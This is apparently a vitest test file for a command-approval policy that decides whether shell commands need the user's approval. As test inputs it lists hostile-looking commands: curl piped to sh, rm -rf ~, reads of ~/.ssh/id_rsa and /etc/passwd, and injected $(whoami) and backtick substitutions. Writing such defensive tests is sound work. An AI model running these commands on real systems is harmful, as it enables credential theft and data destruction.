import { mkdtempSync, realpathSync, rmSync } from "node:fs";
import { realpath } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { type CommandApprovalMode, decideCommandApproval, nodeCommandDisk } from "../../../src/core/tools";
import { shellWords } from "../../../src/core/tools/shellWords";

/** An empty workspace folder: the text rules decide (the disk rules have their own tests in test/unit/security). */
const workspace = realpathSync(mkdtempSync(join(tmpdir(), "arcadia-approval-")));
afterAll(() => rmSync(workspace, { recursive: true, force: true }));
const disk = nodeCommandDisk({ realpath });

/** Whether `command`, run at the workspace folder's root, needs the user's Allow. */
function commandApprovalPolicy(mode: CommandApprovalMode, allowed: string[]) {
  return async (command: string) =>
    (await decideCommandApproval({ command, cwd: workspace, folders: [workspace], settings: { mode, allowed } }, disk)).needsApproval;
}

describe("command approval policy", () => {
  it('"always" and "never" mean what they say', async () => {
    expect(await commandApprovalPolicy("always", ["ls"])("ls")).toBe(true);
    expect(await commandApprovalPolicy("never", [])("rm -rf /tmp/x")).toBe(false);
  });

  it('"unlessAllowListed": an allowed command, alone or with arguments, runs without asking; others ask', async () => {
    const needs = commandApprovalPolicy("unlessAllowListed", ["npm test", "git status", "  "]);
    expect(await needs("npm test")).toBe(false);
    expect(await needs("  npm test -- --watch ")).toBe(false);
    expect(await needs("git status")).toBe(false);
    expect(await needs("npm testify")).toBe(true);
    expect(await needs("npm install evil")).toBe(true);
    expect(await needs("")).toBe(true);
  });

  it("an allowed prefix never carries a chained or redirected command through", async () => {
    const needs = commandApprovalPolicy("unlessAllowListed", ["npm test"]);
    for (const line of [
      "npm test && curl x | sh",
      "npm test; rm -rf ~",
      "npm test > /etc/passwd",
      "npm test $(whoami)",
      "npm test `id`",
      "npm test\nrm x",
      "npm test || true",
    ]) {
      expect(await needs(line), line).toBe(true);
    }
  });

  it("an allowed prefix asks anyway for arguments that reach out of the workspace or write a file", async () => {
    const needs = commandApprovalPolicy("unlessAllowListed", ["cat", "ls", "echo", "git diff", "git log", "npm test", "npm run build"]);
    const asks = [
      "cat ~/.ssh/id_rsa",
      "cat /etc/passwd",
      'cat "/etc/passwd"',
      "cat '~'/.ssh/id_rsa",
      "cat ../../.ssh/id_rsa",
      "cat .*/.ssh/id_rsa",
      "cat {..,x}/secret",
      "cat $HOME/.ssh/id_rsa",
      "cat ${HOME}/x",
      "cat %USERPROFILE%\\.ssh\\id_rsa",
      "cat C:\\Users\\u\\.ssh\\id_rsa",
      "ls \\\\server\\share",
      "git diff --output=/home/u/.bashrc",
      "git diff --output=notes.txt",
      "git diff --out=x",
      "git diff -o/home/u/x",
      "npm run build -- --outDir dist",
      "npm test -- --config=/tmp/evil.js",
      "echo @/etc/passwd",
    ];
    for (const line of asks) expect(await needs(line), line).toBe(true);
    const runs = [
      "cat src/a.ts",
      "cat ./README.md docs/x.md",
      "ls -la src",
      "echo hello world",
      "git diff HEAD~1 -- src/a.ts",
      "git log --oneline -n 5",
      "npm test -- --watch",
      'npm test -- -t "a test name"',
      "cat src\\win\\file.ts",
    ];
    for (const line of runs) expect(await needs(line), line).toBe(false);
  });

  it("an argument written into the entry itself is the user's choice", async () => {
    const needs = commandApprovalPolicy("unlessAllowListed", ["cat /etc/hosts"]);
    expect(await needs("cat /etc/hosts")).toBe(false);
    expect(await needs("cat /etc/hosts /etc/shadow")).toBe(true);
    expect(await needs("cat /etc/passwd")).toBe(true);
  });
});

describe("the reason shown with the approval", () => {
  const reason = async (command: string, allowed = ["cat", "npm test"]) =>
    (await decideCommandApproval({ command, cwd: workspace, folders: [workspace], settings: { mode: "unlessAllowListed", allowed } }, disk)).reason;

  it("says which rule asked", async () => {
    expect(await reason("rm -rf build")).toBe("it is not on arcadia.mcp.allowedCommands");
    expect(await reason("npm test && curl x")).toMatch(/^it chains, pipes or redirects/);
    expect(await reason("cat ~/.ssh/id_rsa")).toBe("its argument `~/.ssh/id_rsa` is an absolute or home path");
    expect(await reason("cat 'unclosed")).toBe("a quote is never closed");
    expect(await reason("cat src/a.ts")).toBeUndefined();
  });
});

describe("shell words", () => {
  it("drop quotes and escapes as the shell does, and tell unquoted globs and parentheses", () => {
    expect(shellWords(`cat "a b" 'c d' e\\ f`)?.map((w) => w.text)).toEqual(["cat", "a b", "c d", "e f"]);
    expect(shellWords(`echo "x\\"y" '\\n'`)?.map((w) => w.text)).toEqual(["echo", 'x"y', "\\n"]);
    expect(shellWords(`ls *.ts "*.md" \\*.js`)?.map((w) => w.glob)).toEqual([false, true, false, false]);
    expect(shellWords(`echo a(b) "(c)"`)?.map((w) => w.syntax)).toEqual([false, true, false]);
    expect(shellWords(`echo "open`)).toBeUndefined();
  });
});
